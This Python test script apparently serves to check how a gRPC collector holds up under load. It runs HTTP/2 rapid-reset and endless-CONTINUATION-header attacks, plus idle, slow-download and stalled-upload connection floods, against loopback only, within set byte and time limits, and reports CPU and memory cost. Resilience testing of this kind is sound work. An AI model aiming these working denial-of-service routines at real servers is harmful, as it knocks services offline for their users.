"""What attackers send to a collector: bounded, and only ever to loopback.

    attacks.py idle  --grpc PORT --count 400
    attacks.py reset --grpc PORT --megabytes 20
    attacks.py endless-header --grpc PORT --seconds 10

prints what the attack cost the collector with process id --pid. The functions are for tests.
"""

import argparse
import contextlib
import os
import pathlib
import resource
import socket
import sys
import time

import http2

_CHUNK_BYTES = 64 << 10


class Process:
    """What the kernel says of a process."""

    def __init__(self, pid):
        self.pid = pid

    def _status(self, key):
        for line in pathlib.Path(f"/proc/{self.pid}/status").read_text().splitlines():
            name, _, value = line.partition(":")
            if name == key:
                return int(value.split()[0]) << 10
        raise KeyError(key)

    def memory(self):
        """Bytes in memory now."""
        return self._status("VmRSS")

    def peak_memory(self):
        """The most bytes that it ever had in memory."""
        return self._status("VmHWM")

    def cpu_seconds(self):
        fields = pathlib.Path(f"/proc/{self.pid}/stat").read_text().rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def descriptors(self):
        return len(os.listdir(f"/proc/{self.pid}/fd"))


@contextlib.contextmanager
def idle_connections(port, count):
    """Connections that say nothing; some may be closed by the server."""
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            with contextlib.suppress(OSError):
                stack.enter_context(socket.create_connection(("127.0.0.1", port), timeout=5))
        yield


@contextlib.contextmanager
def slow_downloads(port, path, count):
    """Connections that ask for something large and take nothing of it."""
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            with contextlib.suppress(OSError):
                connection = stack.enter_context(socket.socket())
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                connection.settimeout(5)
                connection.connect(("127.0.0.1", port))
                connection.sendall(b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % path.encode())
        yield


@contextlib.contextmanager
def stalled_uploads(port, path, count, body_bytes):
    """Connections that send a body without its last byte."""
    head = (
        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        f"Content-Length: {body_bytes}\r\n\r\n"
    ).encode()
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            with contextlib.suppress(OSError):
                connection = stack.enter_context(
                    socket.create_connection(("127.0.0.1", port), timeout=5)
                )
                connection.sendall(head + b" " * (body_bytes - 1))
        yield


def _send_until_closed(connection, chunks):
    """Returns how many bytes the server let through."""
    sent = 0
    try:
        for chunk in chunks:
            connection.sendall(chunk)
            sent += len(chunk)
    except OSError:
        pass
    return sent


def _resets(total_bytes, seconds):
    headers = http2.call_headers()
    stream = 1
    sent = 0
    end = time.monotonic() + seconds
    while sent < total_bytes and time.monotonic() < end:
        chunk = b""
        while len(chunk) < _CHUNK_BYTES:
            chunk += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
            chunk += http2.frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")
            stream += 2
        sent += len(chunk)
        yield chunk


def _endless_header(seconds):
    # A literal field whose value is announced to have about 2^30 bytes.
    begin = b"\0\x01x" + b"\x7f" + b"\x81\xff\xff\xff\x03"
    yield http2.frame(http2.HEADERS, 0, 1, http2.call_headers() + begin)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield http2.frame(http2.CONTINUATION, 0, 1, b"a" * 1000)


def reset_streams(port, total_bytes, seconds=60):
    """Begins calls and takes each back at once. Returns the bytes that the server let through."""
    with http2.connect(port) as connection:
        return _send_until_closed(connection, _resets(total_bytes, seconds))


def reset_streams_on(connection, total_bytes, seconds):
    """The same on a connection on which nothing has been sent."""
    connection.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
    return _send_until_closed(connection, _resets(total_bytes, seconds))


def endless_header(port, seconds, timeout=10):
    """Sends one header field that does not end, until nothing gets through for `timeout` seconds.

    Returns the bytes that the server let through.
    """
    with http2.connect(port, timeout) as connection:
        return _send_until_closed(connection, _endless_header(seconds))


def endless_header_on(connection, seconds):
    """The same on a connection on which nothing has been sent."""
    connection.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
    return _send_until_closed(connection, _endless_header(seconds))


def main(argv):
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("attack", choices=["idle", "reset", "endless-header"])
    parser.add_argument("--grpc", type=int, required=True)
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--count", type=int, default=400)
    parser.add_argument("--megabytes", type=int, default=20)
    parser.add_argument("--seconds", type=float, default=10)
    options = parser.parse_args(argv)
    process = Process(options.pid)
    cpu, begin, sent = process.cpu_seconds(), time.monotonic(), 0
    if options.attack == "idle":
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, hard), hard))
        with idle_connections(options.grpc, options.count):
            time.sleep(2)
            print("answers during the attack:", http2.answers(options.grpc, 5))
    elif options.attack == "reset":
        end = time.monotonic() + options.seconds
        while sent < options.megabytes << 20 and time.monotonic() < end:
            with contextlib.suppress(OSError):
                sent += reset_streams(options.grpc, (options.megabytes << 20) - sent)
    else:
        end = time.monotonic() + options.seconds
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                sent += endless_header(options.grpc, end - time.monotonic())
    took = time.monotonic() - begin
    print(f"attack: {sent / 2**20:.1f} MiB sent in {took:.1f} s")
    print(f"CPU meanwhile: {process.cpu_seconds() - cpu:.1f} s")
    print(f"peak memory: {process.peak_memory() >> 20} MiB")
    time.sleep(10)
    print(f"memory 10 s later: {process.memory() >> 20} MiB")
    print(f"CPU in all: {process.cpu_seconds() - cpu:.1f} s")
    print("answers afterwards:", http2.answers(options.grpc))


if __name__ == "__main__":
    main(sys.argv[1:])
